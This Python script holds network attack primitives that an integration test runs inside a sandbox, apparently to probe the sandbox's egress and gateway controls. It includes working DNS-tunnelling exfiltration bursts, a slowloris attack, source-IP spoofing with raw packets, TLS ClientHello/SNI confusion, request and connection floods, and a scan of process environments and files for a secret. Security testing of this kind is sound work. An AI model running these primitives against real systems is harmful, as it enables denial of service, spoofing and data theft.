# Attack primitives run INSIDE a sandbox by attacks.int.test.ts (uploaded to /tmp/atk.py).
# Usage: python3 /tmp/atk.py '<json list of {id, kind, ...params}>'
# Prints ATK-BEGIN, one JSON line per attempt ({"id", "ran": true, "out": ..., "t0", "t1"}), ATK-END.
# Every client has a timeout; nothing here loops without a bound.
import json, os, socket, ssl, struct, sys, time, random

T = 2.0  # default per-operation timeout, s


def ctx(verify=False):
    if verify:
        return ssl.create_default_context()
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    c.check_hostname = False
    c.verify_mode = ssl.CERT_NONE
    return c


def recv_all(s, timeout, limit=65536):
    s.settimeout(timeout)
    out = b''
    end = time.time() + timeout
    try:
        while len(out) < limit and time.time() < end:
            d = s.recv(4096)
            if not d:
                return out, 'eof'
            out += d
    except socket.timeout:
        return out, 'timeout'
    except Exception as e:  # reset etc.
        return out, 'err:' + type(e).__name__
    return out, 'limit'


def fam(ip):
    return socket.AF_INET6 if ':' in ip else socket.AF_INET


def tcp_connect(ip, port, timeout=T):
    s = socket.socket(fam(ip), socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.connect((ip, port))
    return s


def a_tls(p):
    """TLS to ip:port with SNI p.sni (None: no SNI), then raw request bytes p.req (or a GET)."""
    ip = p['ip']
    if p.get('resolve'):  # through the sandbox's own resolver (/etc/hosts first)
        ip = socket.getaddrinfo(ip, p['port'], socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    try:
        raw = tcp_connect(ip, p['port'], p.get('timeout', T))
    except Exception as e:
        return {'stage': 'connect', 'err': str(e)}
    try:
        s = ctx(p.get('verify', False)).wrap_socket(raw, server_hostname=p.get('sni'))
    except Exception as e:
        return {'stage': 'handshake', 'err': str(e)[:200], 'ip': ip}
    req = p.get('req') or 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (p.get('path', '/'), p.get('host', p.get('sni')))
    try:
        s.sendall(req.encode('utf-8'))
    except Exception as e:
        return {'stage': 'send', 'err': str(e)}
    data, how = recv_all(s, p.get('timeout', T))
    s.close()
    return {'stage': 'response', 'data': data.decode('latin1')[:2000], 'how': how, 'ip': ip}


def a_http(p):
    """Raw bytes p.req to ip:port (TCP); returns what came back. `{PAD}` in p.req becomes p.pad bytes."""
    ip = p['ip']
    if p.get('pad'):
        p['req'] = p['req'].replace('{PAD}', 'a' * p['pad'])
    if p.get('resolve'):
        ip = socket.getaddrinfo(ip, p['port'], socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    try:
        s = tcp_connect(ip, p['port'], p.get('timeout', T))
    except Exception as e:
        return {'stage': 'connect', 'err': str(e)}
    try:
        s.sendall(p['req'].encode('utf-8'))
    except Exception as e:
        return {'stage': 'send', 'err': str(e)}
    if 'req2' in p:  # keep-alive: a second request on the same connection after the first answer
        first, how = recv_all(s, 1.0)
        try:
            s.sendall(p['req2'].encode('utf-8'))
        except Exception as e:
            return {'stage': 'send2', 'err': str(e), 'data': first.decode('latin1')[:2000]}
        data, how = recv_all(s, p.get('timeout', T))
        s.close()
        return {'stage': 'response', 'data': (first + b'||' + data).decode('latin1')[:3000], 'how': how}
    data, how = recv_all(s, p.get('timeout', T))
    s.close()
    return {'stage': 'response', 'data': data.decode('latin1')[:2000], 'how': how, 'ip': ip}


def a_urllib(p):
    import urllib.request
    try:
        with urllib.request.urlopen(p['url'], timeout=p.get('timeout', T), context=ctx(p.get('verify', False))) as r:
            return {'stage': 'response', 'status': r.status, 'data': r.read(2000).decode('latin1')}
    except Exception as e:
        body = ''
        if hasattr(e, 'read'):
            try:
                body = e.read(500).decode('latin1')
            except Exception:
                pass
        return {'stage': 'error', 'err': str(e)[:300], 'data': body}


def a_tcp(p):
    """Plain TCP connect (+ optional payload) to ip:port."""
    try:
        s = tcp_connect(p['ip'], p['port'], p.get('timeout', T))
    except Exception as e:
        return {'stage': 'connect', 'err': str(e)}
    try:
        s.sendall(p.get('send', 'hello\n').encode())
    except Exception:
        pass
    data, how = recv_all(s, 1.0)
    s.close()
    return {'stage': 'connected', 'data': data.decode('latin1')[:500], 'how': how}


def a_udp(p):
    try:
        s = socket.socket(fam(p['ip']), socket.SOCK_DGRAM)
        s.settimeout(p.get('timeout', 1.0))
        s.sendto(bytes.fromhex(p['hex']) if 'hex' in p else p.get('send', 'x').encode(), (p['ip'], p['port']))
    except Exception as e:
        return {'stage': 'send', 'err': str(e)}
    try:
        d, a = s.recvfrom(4096)
        return {'stage': 'reply', 'data': d.decode('latin1')[:300], 'from': a[0]}
    except Exception as e:
        return {'stage': 'noreply', 'err': type(e).__name__}


def dns_query(name, qtype):
    types = {'A': 1, 'TXT': 16, 'AAAA': 28, 'ANY': 255}
    qid = random.randint(0, 65535)
    q = struct.pack('>HHHHHH', qid, 0x0100, 1, 0, 0, 0)
    for label in name.rstrip('.').split('.'):
        q += bytes([len(label)]) + label.encode()
    return q + b'\x00' + struct.pack('>HH', types[qtype], 1)


def dns_parse(d):
    if len(d) < 12:
        return {'stage': 'short'}
    flags, qd, an = struct.unpack('>HHH', d[2:8])
    rc = flags & 15
    return {'stage': 'reply', 'rcode': {0: 'NOERROR', 2: 'SERVFAIL', 3: 'NXDOMAIN', 5: 'REFUSED'}.get(rc, str(rc)), 'answers': an}


def a_dns(p):
    q = dns_query(p['name'], p.get('qtype', 'A'))
    try:
        if p.get('tcp'):
            s = tcp_connect(p['ip'], p.get('port', 53), p.get('timeout', T))
            s.sendall(struct.pack('>H', len(q)) + q)
            d, _ = recv_all(s, p.get('timeout', T))
            s.close()
            return dns_parse(d[2:]) if len(d) > 2 else {'stage': 'noreply'}
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(p.get('timeout', 1.0))
        s.sendto(q, (p['ip'], p.get('port', 53)))
        d, _ = s.recvfrom(4096)
        return dns_parse(d)
    except Exception as e:
        return {'stage': 'error', 'err': str(e)[:200]}


def a_dnsburst(p):
    """Many tunnelling-style queries (random high-entropy labels) to the sandbox resolver."""
    ip = p['ip']
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.5)
    rcodes = {}
    alphabet = 'abcdefghijklmnopqrstuvwxyz234567'
    for i in range(p['count']):
        secret = ''.join(random.choice(alphabet) for _ in range(p.get('len', 60)))
        name = '%s.%s.%s' % (secret, ''.join(random.choice(alphabet) for _ in range(20)), p['domain'])
        s.sendto(dns_query(name, 'TXT' if i % 2 else 'A'), (ip, 53))
        try:
            d, _ = s.recvfrom(4096)
            r = dns_parse(d).get('rcode', '?')
        except Exception:
            r = 'timeout'
        rcodes[r] = rcodes.get(r, 0) + 1
    return {'stage': 'done', 'rcodes': rcodes}


def a_resolve(p):
    try:
        return {'stage': 'resolved', 'addrs': sorted({a[4][0] for a in socket.getaddrinfo(p['name'], 443, p.get('family', 0), socket.SOCK_STREAM)})}
    except Exception as e:
        return {'stage': 'error', 'err': str(e)}


def a_icmp(p):
    """ICMP echo with a patterned 1 KB payload: unprivileged datagram socket, then raw."""
    out = {}
    payload = bytes(range(256)) * 4
    for name, st in (('dgram', socket.SOCK_DGRAM), ('raw', socket.SOCK_RAW)):
        try:
            s = socket.socket(socket.AF_INET, st, socket.IPPROTO_ICMP)
            s.settimeout(1.0)
            hdr = struct.pack('>BBHHH', 8, 0, 0, 0x1234, 1)
            body = hdr + payload
            csum = 0
            for i in range(0, len(body), 2):
                csum += (body[i] << 8) + body[i + 1]
            csum = (csum >> 16) + (csum & 0xffff)
            csum = ~(csum + (csum >> 16)) & 0xffff
            s.sendto(struct.pack('>BBHHH', 8, 0, csum, 0x1234, 1) + payload, (p['ip'], 0))
            try:
                d, a = s.recvfrom(4096)
                out[name] = 'reply from %s' % a[0]
            except Exception as e:
                out[name] = 'sent, no reply (%s)' % type(e).__name__
        except Exception as e:
            out[name] = 'refused: %s' % e
    return {'stage': 'done', 'r': out}


def ip_checksum(h):
    c = 0
    for i in range(0, len(h), 2):
        c += (h[i] << 8) + h[i + 1]
    c = (c >> 16) + (c & 0xffff)
    return ~(c + (c >> 16)) & 0xffff


def a_spoof(p):
    """Forged source address: a raw IP_HDRINCL UDP packet, then IP_FREEBIND/IP_TRANSPARENT bind."""
    out = {}
    src, dst, port = p['src'], p['ip'], p['port']
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        data = p.get('payload', 'spoofed').encode()
        udp = struct.pack('>HHHH', 40000, port, 8 + len(data), 0) + data
        hdr = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(src), socket.inet_aton(dst))
        hdr = hdr[:10] + struct.pack('>H', ip_checksum(hdr)) + hdr[12:]
        s.sendto(hdr + udp, (dst, 0))
        out['raw'] = 'sent'
    except Exception as e:
        out['raw'] = 'refused: %s' % e
    for opt_name, opt in (('freebind', 15), ('transparent', 19)):
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setsockopt(socket.IPPROTO_IP, opt, 1)
            s.bind((src, 0))
            s.sendto(b'spoofed-' + opt_name.encode(), (dst, port))
            out[opt_name] = 'sent'
        except Exception as e:
            out[opt_name] = 'refused: %s' % e
    return {'stage': 'done', 'r': out}


def a_env(p):
    """Where a secret could show inside the sandbox: env of every process, files, a response body."""
    import base64
    needle = base64.b64decode(p['needle_b64']).decode()  # never on the command line in clear
    found = []
    for pid in os.listdir('/proc'):
        if pid.isdigit():
            for f in ('environ', 'cmdline'):
                try:
                    if needle.encode() in open('/proc/%s/%s' % (pid, f), 'rb').read():
                        found.append('/proc/%s/%s' % (pid, f))
                except Exception:
                    pass
    for root in ('/etc', '/home', '/tmp', '/opt', '/root', '/var', '/run'):
        for dp, dn, fn in os.walk(root):
            for f in fn:
                path = os.path.join(dp, f)
                try:
                    if os.path.getsize(path) < 4 * 1024 * 1024 and needle.encode() in open(path, 'rb').read():
                        found.append(path)
                except Exception:
                    pass
    return {'stage': 'done', 'found': found, 'env': {k: v for k, v in os.environ.items() if 'space_ph_' in v}}


def a_myaddr(p):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.connect((p['ip'], 9))
    return {'stage': 'done', 'addr': s.getsockname()[0], 'now': time.time()}


def a_slowloris(p):
    """Opens p.n connections to the gateway TLS path and trickles a ClientHello 1 byte per p.every s."""
    hello = bytes.fromhex(p['hello'])
    conns = []
    opened = 0
    for _ in range(p['n']):
        try:
            conns.append(tcp_connect(p['ip'], 443, 2.0))
            opened += 1
        except Exception:
            break
    sent = 0
    start = time.time()
    closed_at = {}
    while time.time() - start < p['secs'] and len(closed_at) < len(conns):
        for i, c in enumerate(conns):
            if i in closed_at:
                continue
            try:
                c.sendall(hello[sent:sent + 1])
                c.setblocking(False)
                try:
                    if c.recv(1) == b'':
                        closed_at[i] = time.time() - start
                except BlockingIOError:
                    pass
                c.setblocking(True)
            except Exception:
                closed_at[i] = time.time() - start
        sent += 1
        time.sleep(p['every'])
    times = sorted(closed_at.values())
    return {'stage': 'done', 'opened': opened, 'closed': len(closed_at), 'bytes_sent': sent,
            'first_close': times[0] if times else None, 'last_close': times[-1] if times else None}


def a_t25(p):
    """Opens a spliced TLS keep-alive and an HTTP keep-alive to an allowed name, then waits to be cut."""
    t = ctx().wrap_socket(tcp_connect(p['ip'], 443, 3), server_hostname=p['name'])
    h = tcp_connect(p['ip'], 80, 3)
    for s in (t, h):
        s.sendall(('GET /t25-open HTTP/1.1\r\nHost: %s\r\n\r\n' % p['name']).encode())
        s.settimeout(3)
        s.recv(4096)
    print('T25-OPEN', flush=True)
    res = {}
    start = time.time()
    for label, s in (('tls', t), ('http', h)):
        s.settimeout(max(0.1, p['wait'] - (time.time() - start)))
        try:
            d = s.recv(4096)
            res[label] = 'closed after %.1fs' % (time.time() - start) if d == b'' else 'data'
        except socket.timeout:
            res[label] = 'still open'
        except Exception as e:
            res[label] = 'closed (%s)' % type(e).__name__
    # whatever the state, try one more request on each: the far side must not see /t25-after
    for label, s in (('tls', t), ('http', h)):
        try:
            s.sendall(('GET /t25-after HTTP/1.1\r\nHost: %s\r\n\r\n' % p['name']).encode())
            s.settimeout(1)
            res[label + '_after'] = 'reply' if s.recv(4096) else 'eof'
        except Exception as e:
            res[label + '_after'] = 'error %s' % type(e).__name__
    return {'stage': 'done', 'r': res}


def a_latency(p):
    """Median of n (new TLS connection + GET) to ip:port with SNI name."""
    ts = []
    fails = 0
    for _ in range(p['n']):
        t0 = time.perf_counter()
        try:
            s = ctx().wrap_socket(tcp_connect(p['ip'], p['port'], 3), server_hostname=p['name'])
            s.sendall(('GET /lat HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % p['name']).encode())
            d, _ = recv_all(s, 3)
            s.close()
            if b' 200 ' not in d[:20]:
                fails += 1
                continue
        except Exception:
            fails += 1
            continue
        ts.append((time.perf_counter() - t0) * 1000)
    ts.sort()
    return {'stage': 'done', 'median_ms': ts[len(ts) // 2] if ts else None, 'ok': len(ts), 'fails': fails}


def a_flood(p):
    """One sandbox's flood (E11): p.dns A queries for p.name sent without waiting, then p.conns TCP
    connections to ip:port opened back to back and held p.secs. Bounded by its counts and timeouts."""
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(p['dns']):
        try:
            u.sendto(dns_query(p['name'], 'A'), (p['ip'], 53))
        except Exception:
            pass
    u.close()
    conns, failed = [], 0
    for _ in range(p['conns']):
        try:
            conns.append(tcp_connect(p['ip'], p['port'], 1.0))
        except Exception:
            failed += 1
    time.sleep(p['secs'])
    for c in conns:
        c.close()
    return {'stage': 'done', 'opened': len(conns), 'failed': failed}


def a_listen(p):
    """Listens on TCP/UDP p.port for p.secs and appends every hit to p.log (T19 far side)."""
    import select
    t = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(('0.0.0.0', p['port']))
    t.listen(16)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(('0.0.0.0', p['port']))
    end = time.time() + p['secs']
    n = 0
    print('LISTENING', flush=True)
    while time.time() < end:
        r, _, _ = select.select([t, u], [], [], 0.2)
        for s in r:
            if s is t:
                c, a = t.accept()
                open(p['log'], 'a').write('tcp %s\n' % a[0])
                c.close()
            else:
                d, a = u.recvfrom(4096)
                open(p['log'], 'a').write('udp %s\n' % a[0])
            n += 1
    return {'stage': 'done', 'hits': n}


# ---------- third round (E13, E17) ----------

def tls_record(ctype, payload):
    return bytes([ctype, 3, 1]) + struct.pack('>H', len(payload)) + payload


def client_hello_msg(sni):
    """A TLS 1.3 ClientHello message offering only secp256r1 with NO key share (so a server must
    answer HelloRetryRequest); sni None: no server_name extension."""
    def ext(t, data):
        return struct.pack('>HH', t, len(data)) + data
    exts = b''
    if sni is not None:
        name = sni.encode()
        entry = b'\x00' + struct.pack('>H', len(name)) + name
        exts += ext(0, struct.pack('>H', len(entry)) + entry)
    exts += ext(0x2b, b'\x02\x03\x04')          # supported_versions: TLS 1.3
    exts += ext(0x0a, b'\x00\x02\x00\x17')      # supported_groups: secp256r1
    exts += ext(0x0d, b'\x00\x02\x04\x03')      # signature_algorithms: ecdsa_secp256r1_sha256
    exts += ext(0x33, b'\x00\x00')              # key_share: none
    body = b'\x03\x03' + os.urandom(32) + b'\x20' + os.urandom(32) + b'\x00\x02\x13\x01' + b'\x01\x00'
    body += struct.pack('>H', len(exts)) + exts
    return b'\x01' + struct.pack('>I', len(body))[1:] + body


def a_hrr(p):
    """E13: ClientHello naming p.sni1, then (after the server's answer, or at once with
    p.pipelined) a second one naming p.sni2 (None: no SNI); p.ccs sends change_cipher_spec first,
    p.split cuts the second hello into two records. Returns what came back."""
    try:
        s = tcp_connect(p['ip'], 443, p.get('timeout', T))
    except Exception as e:
        return {'stage': 'connect', 'err': str(e)}
    second = client_hello_msg(p.get('sni2'))
    second = (tls_record(22, second[:40]) + tls_record(22, second[40:])) if p.get('split') else tls_record(22, second)
    if p.get('ccs'):
        second = tls_record(20, b'\x01') + second
    first = tls_record(22, client_hello_msg(p['sni1']))
    got = b''
    try:
        if p.get('pipelined'):
            s.sendall(first + second)
        else:
            s.sendall(first)
            got, how = recv_all(s, 1.0, limit=1)
            s.sendall(second)
        data, how = recv_all(s, p.get('timeout', T))
    except Exception as e:
        return {'stage': 'send', 'err': str(e), 'data': got.decode('latin1')}
    s.close()
    return {'stage': 'response', 'data': (got + data).decode('latin1')[:500], 'how': how}


def a_getloop(p):
    """E17: p.threads threads, each sending GET p.path over a new TLS connection to ip:443 (SNI
    p.sni) one after another, for p.secs, at most p.max requests in all; counts status lines."""
    import threading
    lock = threading.Lock()
    counts = {'sent': 0}
    end = time.time() + p['secs']

    def worker():
        while time.time() < end:
            with lock:
                if counts['sent'] >= p['max']:
                    return
                counts['sent'] += 1
            try:
                s = ctx().wrap_socket(tcp_connect(p['ip'], 443, 3), server_hostname=p['sni'])
                s.sendall(('GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (p['path'], p['sni'])).encode())
                d, _ = recv_all(s, 10, limit=256 * 1024)
                s.close()
                key = d[:12].decode('latin1') or 'empty'
            except Exception as e:
                key = 'err:' + type(e).__name__
            with lock:
                counts[key] = counts.get(key, 0) + 1
    ts = [threading.Thread(target=worker) for _ in range(p['threads'])]
    for t in ts:
        t.start()
    for t in ts:
        t.join(p['secs'] + 15)
    return {'stage': 'done', 'counts': counts}


def a_latdns(p):
    """E17: p.n rounds of (one DNS A query for p.name to ip:53, timeout 2 s; then a new TLS
    connection + GET to ip:443 with SNI p.name); median/p95 of each, ms, a lost query counted as
    2000 ms."""
    https, dns, lost, fails = [], [], 0, 0
    for _ in range(p['n']):
        t0 = time.perf_counter()
        try:
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.settimeout(2.0)
            u.sendto(dns_query(p['name'], 'A'), (p['ip'], 53))
            u.recvfrom(4096)
            dns.append((time.perf_counter() - t0) * 1000)
        except Exception:
            lost += 1
            dns.append(2000.0)
        t0 = time.perf_counter()
        try:
            s = ctx().wrap_socket(tcp_connect(p['ip'], 443, 5), server_hostname=p['name'])
            s.sendall(('GET /lat HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % p['name']).encode())
            d, _ = recv_all(s, 5)
            s.close()
            if b' 200 ' not in d[:20]:
                fails += 1
        except Exception:
            fails += 1
        https.append((time.perf_counter() - t0) * 1000)
    q = lambda xs, f: sorted(xs)[min(len(xs) - 1, int(len(xs) * f))] if xs else None
    return {'stage': 'done', 'https_median_ms': q(https, 0.5), 'https_p95_ms': q(https, 0.95),
            'dns_median_ms': q(dns, 0.5), 'dns_p95_ms': q(dns, 0.95), 'dns_lost': lost, 'fails': fails, 'n': p['n']}


KINDS = {k[2:]: v for k, v in globals().items() if k.startswith('a_')}


def one(a):
    t0 = time.time()
    try:
        out = KINDS[a['kind']](a)
    except Exception as e:
        out = {'stage': 'exception', 'err': '%s: %s' % (type(e).__name__, e)}
    return json.dumps({'id': a['id'], 'ran': True, 'out': out, 't0': t0, 't1': time.time()})


def main():
    attempts = json.loads(sys.argv[1])
    parallel = len(sys.argv) > 2 and sys.argv[2] == 'par'
    print('ATK-BEGIN', flush=True)
    if parallel:  # independent attempts at once (each still has its own timeouts)
        from concurrent.futures import ThreadPoolExecutor
        with ThreadPoolExecutor(max_workers=24) as ex:
            for line in ex.map(one, attempts):
                print(line, flush=True)
    else:
        for a in attempts:
            print(one(a), flush=True)
    print('ATK-END', flush=True)


main()
